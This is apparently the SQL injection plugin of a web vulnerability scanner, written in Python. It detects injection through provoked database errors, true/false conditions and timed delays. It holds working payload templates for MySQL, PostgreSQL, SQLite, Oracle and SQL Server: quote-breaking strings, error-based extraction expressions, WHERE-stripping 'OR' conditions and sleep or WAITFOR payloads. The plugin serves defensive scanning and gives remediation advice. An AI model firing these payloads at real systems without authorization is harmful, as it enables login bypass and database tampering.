"""Values that become part of an SQL statement: shown by errors, by conditions, by waiting."""

import re
from collections.abc import AsyncIterator, Iterator

from msgspec.structs import replace

from s2n.s2nscanner.sdk import (
    CheckContext,
    Claim,
    Condition,
    Fresh,
    InputPoint,
    Location,
    Malformed,
    PluginInfo,
    Probe,
    Product,
    Proof,
    Severity,
    complaint,
    delays,
    difference,
    learn_page,
    new_messages,
    points_of,
    prove_computed,
    sql_errors,
)

# {v}: the value that is there, {t}: a fresh word, {c}: a condition, {s}: seconds.

BREAKS = ("{v}'{t}", "{v}'\"{t})\\")
"""The last ends strings of either kind, closes a parenthesis, escapes an end: no SQL context survives it."""

_CASE = "(CASE WHEN {c} THEN {v} ELSE NULL END)"
_MANY = "(CASE WHEN {c} THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)"  # fails in MySQL and PostgreSQL
_HUGE = "abs(-9223372036854775807-1)"  # fails in SQLite and PostgreSQL

# LIKE, so that a pattern's own % may follow: 'x' LIKE 'x%'. The last fails where nothing is looked up.
TEXT_CONTEXTS = (
    "{v}' AND {c} AND 'x' LIKE 'x",
    "{v}') AND {c} AND ('x' LIKE 'x",
    "{v}%' AND {c} AND 'x' LIKE 'x",
    "{v}%') AND {c} AND ('x' LIKE 'x",
    '{v}" AND {c} AND "x" LIKE "x',
    '{v}") AND {c} AND ("x" LIKE "x',
    "{v}')) AND {c} AND (('x' LIKE 'x",
    f"{{v}}'||(CASE WHEN {{c}} THEN 7 ELSE {_HUGE} END)||'",
)
NUMBER_CONTEXTS = ("{v} AND {c}", _CASE, f"(CASE WHEN {{c}} THEN {{v}} ELSE {_HUGE} END)")
_HUGE_KEY = f"(CASE WHEN {{c}} THEN 1 ELSE {_HUGE} END)"
NAME_CONTEXTS = (_CASE, f"{_MANY},{{v}}", f"{_HUGE_KEY},{{v}}")
DIRECTION_CONTEXTS = (f"{{v}},{_MANY}", f"{{v}},{_HUGE_KEY}")

# These take away what restricts a statement, so they are kept for statements that only read.
READING_CONTEXTS = ("{v}' OR {c}-- -", "{v}' AND {c}-- -", "{v}') OR {c}-- -", '{v}" OR {c}-- -')
READING_NUMBER_CONTEXTS = ("{v} OR {c}", "{v}) OR {c}-- -")

# Each expression fails with a message that holds the product.
WITNESSES = {
    "MySQL": "extractvalue(1,concat(0x7e,({a}*{b})))",
    "PostgreSQL": "1=CAST('~'||({a}*{b}) AS integer)",
    "SQLite": "json_extract('{}','~'||({a}*{b}))=1",
    "Microsoft SQL Server": "1=CONVERT(int,'~'+CAST({a}*{b} AS varchar(20)))",
}
WITNESS_DIGITS = 5  # the product fits in 32 bits

_MYSQL = "(SELECT 7 FROM(SELECT SLEEP({s}))q)"  # a derived table: runs once, whatever the rows
TEXT_WAITS = (
    ("MySQL", f"{{v}} AND {_MYSQL}/*' AND {_MYSQL} AND '\" AND {_MYSQL} AND \"*/"),  # number, ' and "
    ("PostgreSQL", "{v}'||(SELECT '' FROM pg_sleep({s}))||'"),
    ("Oracle", "{v}'||dbms_pipe.receive_message('{t}',{s})||'"),
)
NUMBER_WAITS = (
    ("PostgreSQL", "{v}-(SELECT 0 FROM pg_sleep({s}))"),
    ("Oracle", "{v}-0*dbms_pipe.receive_message('{t}',{s})"),
)
NAME_WAITS = (("PostgreSQL", "{v},(SELECT 0 FROM pg_sleep({s}))"), ("MySQL", f"{{v}},{_MYSQL}"))
READING_WAITS = (
    ("PostgreSQL", "{v}';SELECT pg_sleep({s})-- -"),
    ("Microsoft SQL Server", "{v}';WAITFOR DELAY '0:0:{s}'-- -"),
    ("Microsoft SQL Server", "{v}');WAITFOR DELAY '0:0:{s}'-- -"),
    ("Microsoft SQL Server", "{v};WAITFOR DELAY '0:0:{s}'-- -"),
)
_WAITING = re.compile(r"SLEEP|pg_sleep|receive_message|DELAY")

_NUMBER = re.compile(r"-?\d+(?:\.\d+)?")
_NAME = re.compile(r"(?i)[a-z_][\w.]*|\d{1,2}")
_DIRECTION = re.compile(r"(?i)(?:[\w.]+ )?(?:asc|desc)")
_PASSWORD = re.compile(r"(?i)pass|pwd|secret")


class Plugin:
    """Cheap proofs first: a provoked error, then a condition, then a delay; one finding a point."""

    info = PluginInfo(
        id="sqlinjection",
        title="SQL injection",
        severity=Severity.CRITICAL,
        cwe="CWE-89",
        owasp="A03:2021",
        wstg="WSTG-INPV-05",
        cvss_vector="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
        cvss_score=9.8,
        what="The value becomes part of an SQL statement: it can end a string and add SQL of its own.",
        why="Whoever sends it reads and changes the whole database, gets in without a password, and on some "
        "systems runs commands on the server.",
        fix="Use parameterised queries (prepared statements) for every value. Names of columns and sort "
        "directions cannot be parameters: pick them from a fixed list. Show users no database messages.",
        references=(
            "https://owasp.org/www-community/attacks/SQL_Injection",
            "https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
        ),
        max_requests=60,
    )

    async def check(self, point: InputPoint, ctx: CheckContext) -> AsyncIterator[Claim]:
        """Try one input point; the first proof ends it."""
        probe = await ctx.probe(point)
        proof = await _by_error(probe) or await _by_condition(probe) or await _by_delay(probe)
        if proof is not None:
            yield ctx.finding(proof, point)


async def _by_error(probe: Probe) -> Proof | None:
    """A broken value provokes a database message; at best the message holds what the database computed."""
    for template in BREAKS:
        proof = await complaint(probe, _malformed(probe, template), sql_errors)
        if proof is not None:
            return await _witness(probe, proof) or proof
    return None


def _malformed(probe: Probe, template: str) -> Malformed:
    value = probe.point.value
    if _NUMBER.fullmatch(value):
        return Malformed(
            broken=lambda word: _fill(template, probe, t=word),
            harmless=[lambda fresh: str(fresh.number())],
            balanced=lambda fresh: f"{value}-{fresh.number()}+1",
            unbalanced=lambda fresh: f"{value}-{fresh.number()}+",
        )
    harmless = [lambda fresh: value + fresh.letters()]
    if _order_contexts(value):  # an unknown column is an error of its own
        harmless.append(lambda _: f"{value},{value}")
    return Malformed(
        broken=lambda word: _fill(template, probe, t=word),
        harmless=harmless,
        balanced=lambda fresh: f"{value}{fresh.letters()}''",
        unbalanced=lambda fresh: f"{value}{fresh.letters()}'''",
    )


async def _witness(probe: Probe, shown: Proof) -> Proof | None:
    messages = new_messages(probe, shown.exchange, sql_errors)
    expression = next((WITNESSES[m.source] for m in messages if m.source in WITNESSES), None)
    if expression is None:
        return None
    for template in _contexts(probe.point.value):

        def payload(product: Product, template: str = template) -> str:
            filled = expression.replace("{a}", str(product.a)).replace("{b}", str(product.b))
            return _fill(template, probe, c=filled)

        proof = await prove_computed(probe, payload, digits=WITNESS_DIGITS)
        if proof is not None:
            return replace(proof, evidence=f"{shown.evidence}; {proof.evidence}")
    return None


async def _by_condition(probe: Probe) -> Proof | None:
    """A true condition gives another page than a false one."""
    page = await learn_page(probe)
    if page is None:
        return None
    value = probe.point.value
    broken = _fill(BREAKS[-1], probe, t=probe.fresh.letters())
    if not page.same(await probe.send(broken), broken):  # otherwise the value breaks nothing
        for template in dict.fromkeys((*_contexts(value), *_order_contexts(value))):
            proof = await difference(probe, _condition(probe, template), page)
            if proof is not None:
                return proof
    if _only_reads(probe.point):
        numbers = READING_NUMBER_CONTEXTS if _NUMBER.fullmatch(value) else ()
        for template in (*numbers, *READING_CONTEXTS):
            proof = await difference(probe, _condition(probe, template), page, like_true=False)
            if proof is not None:
                return proof
    return None


async def _by_delay(probe: Probe) -> Proof | None:
    """The database waits as long as it is told to."""
    for dbms, template in _waits(probe.point):
        word = probe.fresh.letters()

        def payload(seconds: int, template: str = template, word: str = word) -> str:
            return _fill(template, probe, t=word, s=str(seconds))

        def inert(seconds: int, template: str = template, word: str = word) -> str:
            return _fill(_WAITING.sub(lambda m: m[0][:-1] + "q", template), probe, t=word, s=str(seconds))

        proof = await delays(probe, payload, inert)
        if proof is not None:
            return replace(proof, evidence=f"{proof.evidence}: {dbms}")
    return None


def _waits(point: InputPoint) -> Iterator[tuple[str, str]]:
    yield from TEXT_WAITS
    if not point.value or _NUMBER.fullmatch(point.value):
        yield from NUMBER_WAITS
    elif _order_contexts(point.value):
        yield from NAME_WAITS
    if _only_reads(point):
        yield from READING_WAITS


def _contexts(value: str) -> tuple[str, ...]:
    return (*NUMBER_CONTEXTS, *TEXT_CONTEXTS) if _NUMBER.fullmatch(value) else TEXT_CONTEXTS


def _order_contexts(value: str) -> tuple[str, ...]:
    if _DIRECTION.fullmatch(value):
        return DIRECTION_CONTEXTS
    return NAME_CONTEXTS if _NAME.fullmatch(value) else ()


def _condition(probe: Probe, template: str) -> Condition:
    """Conditions of equal length in two spellings, so that nothing but their meaning can tell them apart."""

    def numbers(fresh: Fresh) -> tuple[int, int, int]:
        return 1000 + fresh.number(3), 2000 + fresh.number(3), 3000 + fresh.number(3)

    def true(fresh: Fresh) -> str:
        a, b, c = numbers(fresh)
        return _fill(template, probe, c=fresh.shuffled([f"{a}={a}", f"{b} BETWEEN {a} AND {c}"])[0])

    def false(fresh: Fresh) -> str:
        a, b, c = numbers(fresh)
        return _fill(template, probe, c=fresh.shuffled([f"{a}={b}", f"{a} BETWEEN {b} AND {c}"])[0])

    def broken(fresh: Fresh) -> str:
        a, b, _ = numbers(fresh)
        return _fill(template, probe, c=f"{a} {b}")

    return Condition(true, false, broken)


def _fill(template: str, probe: Probe, **parts: str) -> str:
    for name, part in parts.items():
        template = template.replace(f"{{{name}}}", part)
    return template.replace("{v}", probe.point.value or "1" * ("{s}" in template))


def _only_reads(point: InputPoint) -> bool:
    """May a statement lose its WHERE here? Only behind a GET, or a login: one password and little else."""
    if point.request.method in {"GET", "HEAD"}:
        return True
    fields = [other for other in points_of(point.request) if other.location == point.location]
    passwords = [field for field in fields if _PASSWORD.search(field.name)]
    return point.location in {Location.FORM, Location.JSON} and len(passwords) == 1 and len(fields) <= 4
